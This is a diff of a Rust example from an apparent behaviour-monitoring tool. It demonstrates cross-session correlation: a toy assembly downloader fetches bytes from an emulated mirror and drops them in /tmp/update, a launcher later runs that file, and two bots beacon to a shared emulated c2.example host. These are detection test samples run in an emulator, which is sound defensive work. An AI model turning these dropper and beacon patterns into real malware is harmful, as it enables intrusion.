@@ -1,18 +1,38 @@
 //! Cross-session hunting (paper §10, items 3 and 6): correlate behaviour
-//! *across* monitored runs — a dropper in one session, the execution of
-//! its payload in another, and two bots sharing a command-and-control
-//! host — and then the full fleet correlator: the coordinated
-//! twelve-session campaign whose members are individually (near-)
-//! silent and only damn each other in aggregate.
+//! *across* monitored runs — a download in one session, the execution
+//! of the downloaded file in another, and two bots sharing a
+//! command-and-control host — and then the full fleet correlator: the
+//! coordinated twelve-session campaign whose members are individually
+//! (near-) silent and only damn each other in aggregate. Every session
+//! reaches the others through its digest and a `Correlator`.
 //!
 //! Run with `cargo run --example cross_session`.
 
+use hth::emukernel::{Endpoint, Peer};
 use hth::hth_core::{digest_session, CorrelateConfig, Correlator};
 use hth::hth_workloads::coordinated;
-use hth::{Session, SessionConfig, SessionHistory};
+use hth::{Session, SessionConfig};
 
+/// Fetches 8 bytes from a hardcoded mirror and stores them in
+/// `/tmp/update`: downloaded (socket-tainted) bytes landing on disk,
+/// which is what a digest records as a drop.
 const DOWNLOADER: &str = r#"
 _start:
+    mov eax, 102        ; socket()
+    mov ebx, 1
+    mov ecx, sockargs
+    int 0x80
+    mov edi, eax
+    mov [connargs], edi
+    mov eax, 102        ; connect to the mirror
+    mov ebx, 3
+    mov ecx, connargs
+    int 0x80
+    mov [recvargs], edi
+    mov eax, 102        ; recv the payload
+    mov ebx, 10
+    mov ecx, recvargs
+    int 0x80
     mov eax, 5          ; open("/tmp/update", O_CREAT|O_WRONLY)
     mov ebx, path
     mov ecx, 0x41
@@ -20,15 +40,20 @@ _start:
     mov esi, eax
     mov eax, 4          ; write the payload
     mov ebx, esi
-    mov ecx, payload
+    mov ecx, 0x09000000
     mov edx, 8
     int 0x80
     mov eax, 1
     mov ebx, 0
     int 0x80
 .data
-path:    .asciz "/tmp/update"
-payload: .asciz "PAYLOAD"
+path:     .asciz "/tmp/update"
+sockargs: .long 2, 1, 0
+addr:     .word 2
+port:     .word 80
+ip:       .long 0x0a0000aa
+connargs: .long 0, addr, 8
+recvargs: .long 0, 0x09000000, 8, 0
 "#;
 
 const LAUNCHER: &str = r"
@@ -64,22 +89,33 @@ connargs: .long 0, addr, 8
 ";
 
 fn main() -> Result<(), Box<dyn std::error::Error>> {
-    let mut history = SessionHistory::new();
+    // One correlator carries what each session's digest says into the
+    // sessions after it. Two distinct programs sharing a hardcoded host
+    // already make a bot network here.
+    let mut correlator =
+        Correlator::new(CorrelateConfig { min_c2_labels: 2, ..CorrelateConfig::default() });
 
-    // --- Session 1: the dropper plants /tmp/update (High on its own,
-    //     but the interesting part is what the history remembers). ---
+    // --- Session 1: the downloader fetches a payload from its mirror
+    //     and plants it in /tmp/update. ---
     let mut s1 = Session::new(SessionConfig::default())?;
+    s1.kernel.net.add_host("mirror.example", 0x0a00_00aa);
+    s1.kernel.net.add_peer(
+        Endpoint { ip: 0x0a00_00aa, port: 80 },
+        Peer { on_connect: vec![b"PAYLOAD\0".to_vec()], ..Peer::default() },
+    );
     s1.kernel.register_binary("/bin/downloader", DOWNLOADER, &[]);
     s1.start("/bin/downloader", &["/bin/downloader"], &[])?;
     s1.run()?;
-    history.absorb(&s1, "/bin/downloader");
-    println!("session 1: downloader ran; history remembers {} drop(s)", history.drops().count());
+    let digest = digest_session(1, "/bin/downloader", s1.events(), s1.warnings());
+    println!("session 1: downloader ran; its digest holds {} drop(s)", digest.drops.len());
+    correlator.ingest(digest);
 
     // --- Session 2: a different program executes the dropped file. The
     //     file name comes from the *user*, so the single-session policy
-    //     is silent — only the cross-session rule sees the pattern. ---
+    //     is silent — only the rules armed from session 1's digest see
+    //     the pattern. ---
     let mut s2 = Session::new(SessionConfig::default())?;
-    history.arm(&mut s2)?;
+    correlator.arm(s2.secpert_mut())?;
     s2.kernel.register_binary("/bin/launcher", LAUNCHER, &[]);
     s2.start("/bin/launcher", &["/bin/launcher", "/tmp/update"], &[])?;
     s2.run()?;
@@ -90,25 +126,18 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
 
     // --- Sessions 3 and 4: two unrelated programs beacon to the same
     //     hardcoded host — the §10 bot-network correlation. ---
-    for bot in ["/bin/bot-a", "/bin/bot-b"] {
+    for (sid, bot) in [(3, "/bin/bot-a"), (4, "/bin/bot-b")] {
         let mut s = Session::new(SessionConfig::default())?;
         s.kernel.net.add_host("c2.example", 0x0a00_00c2);
-        s.kernel.net.add_peer(
-            hth::emukernel::Endpoint { ip: 0x0a00_00c2, port: 6667 },
-            hth::emukernel::Peer::default(),
-        );
+        s.kernel.net.add_peer(Endpoint { ip: 0x0a00_00c2, port: 6667 }, Peer::default());
         s.kernel.register_binary(bot, BOT, &[]);
         s.start(bot, &[bot], &[])?;
         s.run()?;
-        history.absorb(&s, bot);
+        correlator.ingest(digest_session(sid, bot, s.events(), s.warnings()));
     }
     println!("\nsessions 3+4: two bots beaconed");
-    for report in history.shared_c2(2) {
-        println!(
-            "  BOTNET: {} is contacted (hardcoded) by {}",
-            report.endpoint,
-            report.programs.join(" and "),
-        );
+    for warning in correlator.correlate().map_err(|e| e.to_string())?.warnings {
+        println!("  [{}] {}: {}", warning.severity, warning.rule, warning.message);
     }
 
     // --- The fleet correlator at scale: run the coordinated campaign
